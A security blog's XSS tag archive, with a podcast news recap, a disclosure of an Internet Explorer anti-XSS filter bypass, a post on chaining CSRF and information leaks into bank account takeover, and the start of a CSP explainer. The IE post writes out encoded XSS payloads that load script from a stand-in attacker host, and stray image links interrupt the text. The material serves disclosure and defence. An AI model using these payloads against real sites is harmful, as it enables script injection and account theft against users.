Tag Archives: XSS

#HackerKast 8: Recap ofJPMC Breach, Hacking Rewards Programs and TOR Version of Facebook

After making fun of RSnake being cold in Texas, we started off this week’s HackerKast, with some discussion about the recent JP Morgan breach. We received more details about the breach that affected 76 million households last month, including confirmation that it was indeed a website that was hacked. As we have seen more often in recent years, the hacked website was not any of their main webpages but a one-off brochureware type site to promote and organize a company-sponsored running race event.

This shiftin attacker focus has been something we in the AppSec world have taken notice of and are realizing we need to protect against. Historically, if a company did any web security testing or monitoring, the main (and often only) focus was on the flagship websites. Now we are all learning the hard way that tons of other websites, created for smaller or more specific purposes, happen either to be hooked up to the same database or can easily serve as a pivot point to a server that does talk to the crown jewels.

Next, Jeremiah touched on a fun little piece from our friend Brian Krebs over at Krebs On Security who was pointing out the value to attackers in targeting credit card rewards programs. Instead of attacking the card itself, the blackhats are compromising rewards websites, liquidating the points and cashing out. One major weakness that is pointed out here is that most of these types of services utilize a four-digit pin to get to your reward points account. Robert makes a great point here that even if they move from four-digit pins to a password system, they stop can make it more difficult to brute force, but if the bad guys find value here they’ll just update current malware strains to attack these types of accounts.Robert then talked about a new TOR onion network version of Facebook that has begun to get set up for the sake of some anonymous usage of Facebook. There is the obvious use of people trying to browse at work without getting in trouble, but the more important use is for people in oppressive countries who want to get information out and not worry about prosecution and personal safety.

I brought up an interesting bug bounty that was shared on the blogosphere this week by a researcher named von Patrik who found a fun XSS bug in Google. I was a bit sad (Jeremiah would say jealous) that he got $5,000 for the bug but it was certainly a cool one. The XSS was found by uploading a JSON file to a Google SEO service called Tag Manager. All of the inputs on Tag Manager were properly sanitized in the interface but they allowed you to upload this JSON file which had some additional configs and inputs for SEO tags. This file was not sanitized and an XSS injection could be stored making it persistent and via file upload. Pretty juicy stuff!

Finally we wrapped up talking about Google some more with a bypass of Gmail two-factor authentication. Specifically, the attack in question here was going after the text message implementation of the 2FA and not the tokenization app that Google puts out. There are a list of ways that this can happen but the particular, most recent, story we are talking about involves attackers calling up mobile providers and social engineering their way into accessing text messages to get the second factor token to help compromise the Gmail account.

That’s it for this week! Tune in next week for your AppSec “what you need to know” cliff notes!

J.P. Morgan Found Hackers Through Breach of Road-Race Website
Thieves CashOut Rewards, Points Accounts
Why Facebook Just Launched Its Own ‘Dark Web’ Site
[BugBounty] The 5000$ Google XSS
How Hackers Reportedly Side-Stepped Google’s Two-Factor Authentication

Bypassing Internet Explorer’s Anti-Cross Site Scripting Filter

There’s a problem with the reflective Cross Site Scripting ("XSS") filter in Microsoft’s Internet Explorer family of browsers that extends from version 8.0 (where the filter first debuted) through the most current version, 11.0, released in mid-October for Windows 8.1, and early November for Windows 7.

In the simplest possible terms, the problem is that the anti-XSS filter only compares the untrusted request from the user and the response body from the website for reflections that could cause immediate JavaScript or VBScript code execution. Should an injection from that initial request reflect on the page not cause immediate JavaScript code execution, that untrusted data from the injection is then marked as trusted data, and the anti-XSS filter will not check it in future requests.

To reiterate: InternetExplorer’s anti-XSS filter divides the data it sees into two categories: untrusted and trusted. Untrusted data is subject to the anti-XSS filter, while trusted data is not.

As an example, let’s suppose a website contains an iframe definition where an injection on the "xss" parameter reflects in the src="" attribute. The page referenced in the src="" attribute contains an XSS vulnerability such that:

GET http://vulnerable-iframe/inject?xss=%3Ctest-injection%3E

results in the “xss” parameter being reflected in the page containing the iframe as:<iframe src="http://vulnerable-page/?vulnparam=<test-injection>"></iframe>

and the vulnerable page would then render as:

Some text <test-injection> some more text

Should a user make a request directly to the vulnerable page in an attempt to reflect <script src=http://attacker/evil.js></script> as follows:

GET http://vulnerable-page/?vulnparam=%3Cscript%20src%3Dhttp%3A%2F%2Fattacker%2Fevil%2Ejs%3E%3C%2Fscript%3E

Internet Explorer’s anti-XSS filter sees that the injection would result in immediate JavaScript code execution and subsequently modifies the response body to prevent that from occurring.

Even when the request is made to the page containing the iframe as follows:

GET http://vulnerable-iframe/inject?xss=%3Cscript%20src%3Dhttp%3A%2F%2Fattacker%2Fevil%2Ejs%3E%3C%2Fscript%3E

and Internet Explorer’s anti-XSS filter sees it reflected as:

<iframe src="http://vulnerable-page/?vulnparam=<script src=http://attacker/evil.js></script>"></iframe>

which, because it looks like it might cause immediate JavaScript code execution, will also be altered.

To get around the anti-XSS filter in Internet Explorer, an attacker can make use of sections of the HTML standard: Decimal encodings and Hexadecimal encodings.

Hexadecimal encodings were made part of the official HTML standard in 1998 as part of HTML 4.0 (3.2.3: Character references), while Decimal encodings go backfurther to the first official HTML standard in HTML 2.0 in 1995 (ISO Latin 1 Character Set). When a browser sees a properly encoded decimal or hexadecimal character in the response body of a HTTP request, the browser will automatically decode and display for the user the character referenced by the encoding.

As an added bonus for an attacker, when a decimal or hexadecimal encoded character is returned in an attribute that is then included in a subsequent request, it is the decoded character that is sent, not the decimal or hexadecimal encoding of that character.

Thus, all an attacker needs to do is fool Internet Explorer’s anti-XSS filter by inducing someof the desired characters to be reflected as their decimal or hexadecimal encodings in an attribute.

To return to the iframe example, instead of the obviously malicious injection, a slightly modified injection will be used:

Partial Decimal Encoding:
GET http://vulnerable-iframe/inject?xss=%3Cs%26%2399%3B%26%23114%3Bi%26%23112%3Bt%20s%26%23114%3B%26%2399%3B%3Dht%26%23116%3Bp%3A%2F%2Fa%26%23116%3Bta%26%2399%3Bker%2Fevil%2Ejs%3E%3C%2Fs%26%2399%3B%26%23114%3Bi%26%23112%3Bt%3E

which reflects as:

<iframe src="http://vulnerable-page/?vulnparam=<script src=http://attacker/evil.js></script>"></iframe>


Partial Hexadecimal Encoding:
GET http://vulnerable-iframe/inject?xss=%3Cs%26%23x63%3Bri%26%23x70%3Bt%20s%26%23x72%3Bc%3Dhttp%3A%2F%2Fatta%26%23x63%3Bker%2Fevil%2Ejs%3E%3C%2Fs%26%23x63%3Bri%26%23x70%3Bt%3E

which reflects as:

<iframe src="http://vulnerable-page/?vulnparam=<script src=http://attacker/evil.js></script>"></iframe>

Internet Explorer’s anti-XSS filter does not see either of those injections as potentially malicious, and the reflections of the untrusted data in the initial request are marked as trusted data and will not be subject to future filtering.

The browser, however, sees those injections, and will decode them before including them in the automatically generated request for the vulnerable page. So when the following request is made from the iframe definition:

GET http://vulnerable-page/?vulnparam=%3Cscript%20src%3Dhttp%3A%2F%2Fattacker%2Fevil%2Ejs%3E%3C%2Fscript%3E

Internet Explorer’s anti-XSS filter will ignore the request completely, allowing it to reflect on the vulnerable page as:

Some text <script src=http://attacker/evil.js></script> some more text

Unfortunately (or fortunately, depending on your point of view), this methodology is not limited to iframes. Any place where an injection lands in the attribute space of an HTML element, which is then relayed onto avulnerable page on the same domain, can be used. Form submissions where the injection reflects either inside the "action" attribute of the form element or in the "value" attribute of an input element are two other instances that may be used in the same manner as with the iframe example above.

Beyond that, in cases where there is only the single page where:

GET http://vulnerable-page/?xss=%3Ctest-injection%3E

reflects as:

Some text <test-injection> some more text

the often under-appreciated sibling of Cross Site Scripting, Content Spoofing, can be utilized to perform the same attack. In this example, an attacker would craft a link that would reflect on the page as:

Some text <div style=some-css-elements><a href=?xss=<script src=http://attacker/evil.js></script>>Requested page has moved here</a></div> some more text

Then when the victim clicks the link, the same page is called, but now with the injection being fully decoded:

Some text <script src=http://attacker/evil.js></script> some more text

This is the flaw in Internet Explorer’s anti-XSS filter. It only looks for injections that might immediately result in JavaScript code execution. Should an attacker find a wayto relay the injection within the same domain — be it by frames/iframes, form submissions, embedded links, or some other method — the untrusted data injected in the initial request will be treated as trusted data in subsequent requests, completely bypassing Internet Explorer’s anti-Cross Site Scripting filter.

Afterword: >

After Microsoft made its decision not to work on a fix for this issue, it was requested that the following link to their design philosophy blog post be included in any public disclosures that may occur. In particular the third category, which discusses "application-specific transformations" and the possibility of an application that would "ROT13 decode" values before reflecting them, was pointed to in Microsoft’s decision to allow this flaw to continue to exist.


The "ROT13 decode" and "application-specific transformations" mentions do notapply. Everything noted above is part of the official HTML standard, and has been so since at least 1998 — if not earlier. There is no "only appears in this one type of application" functionality being used. The XSS injection reflects in the attribute space of an element and is then relayed onto a vulnerable page (either another page, or back to itself) where it then executes.

Additionally, the usage of decimal and hexadecimal encodings are not the flaw, but rather two implementations that make use of the method that exploits the flaw. Often simple URL/URI-encodings (mentionedas early as 1994 in RFC 1630) can be used in their place.

The flaw with Internet Explorer’s anti-XSS filter is that injected untrusted data can be turned into trusted data and that injected trusted data is not subject to validation by Internet Explorer’s anti-XSS filter.

Post Script:

The author has adapted this post from his original work, which can be found here:


Chained Exploits

Sometimes it is one vulnerability that gets exploited that leads to the newsworthy stories of businesses getting compromised, but usually it is the chaining of 2, 3, 4, or more vulnerabilities together that leads to thecompromise of a business.

That’s where WhiteHat comes in. WhiteHat will report not just the XSS, SQL injection, and CSRF, but the Information Leakage, Fingerprinting, and other vulnerabilities. Those vulnerabilities may not be much by themselves, but if I see your dev and QA environments in commented-out HTML source code in your production environment, I just found myself new targets. That QA environment may or may not have the same code that is running on the production environment, but does it have the same configurations? The same firewall settings? Are those log files monitored like the production environment? I now have a leg up in to your network all because of an Information Leakage vulnerability that I was able to leverage and chain together with othervulnerabilities. How about a Fingerprinting vulnerability that tells me you are running an out-of-date version of nginx or PHP or Ruby on Rails. A version I happen to know is vulnerable to Remote Code Execution, Buffer Overflow, Denial of Service, or something else. You just made my job much easier. Doesn’t seem so benign now, does it?

But let’s assume for a moment that you take care of those problems. You turn off stack traces, you get rid of private IP addresses in the response headers. What next? Let’s build another scenario, one that I encountered recently.

There is a financial institution that provides online statements to users for their accounts. To encourage users to use the online statements instead of paper statements, you charge users a nominal fee to get paperversions of their imaged checks. As part of the log in process, in addition to the username and password, a user needs to answer one or more security questions before gaining access to the account. This helps prove that it is the user and not someone who was able to obtain or guess the username and password set.

Have that vision in your head? Now, what if I told you that I could CSRF transferring funds, but only between the accounts you have, perhaps a checking account and a credit card account. That surely can’t be bad, can it? Well, it turns out that the user gets charged whenever a cash advance is made from their credit card totheir checking account. Okay, so I can rackup some charges. But what if I want to do something else? Say, CSRF changing their username? If you’ll recall, I need the password too, along with security questions. No go on the password and security questions. But I can CSRF changing the user from online statements to paper statements and for added fun, make them get charges for the imaged checks. My fun doesn’t stop there. The creme de la creme. The piece de resistance. The go big or go home. CSRF on the mailing address.

Why is that such a big deal, you ask? Now I know the username of the account. I have active account statements sent to a mailing address I control, along with imaged checks. And then, all I need to do is call the bank’s customer support, ask about “my” account, using “my” username, “my” account number, and the details of the imaged checks just in case the bank asks for further confirmation to prove that I am who I say I am.

And then I say: “Oh, and I’m calling because I forgot both my password and the answer to my security questions.”

Is it common for users to forget their security questions? Yes. I used to be in the habit of providing fake information to the security questions because I didn’t want an attacker who may know or guess the answer, what would otherwise be a correct answer, to my security questions.But me being me, I forgot them and I lost access to the account. Others may be in the same habit.

So you gotta ask yourself, what’s one vulnerability?

Content Security Policy

What is it and why should I care?
Content Security Policy (CSP) is a new(ish) technology put together by Mozilla that Web apps can use as an additional layer of protection against Cross-Site Scripting (XSS). This protection against XSS is the primary goal of CSP technology. A secondary goal is to protect against clickjacking.

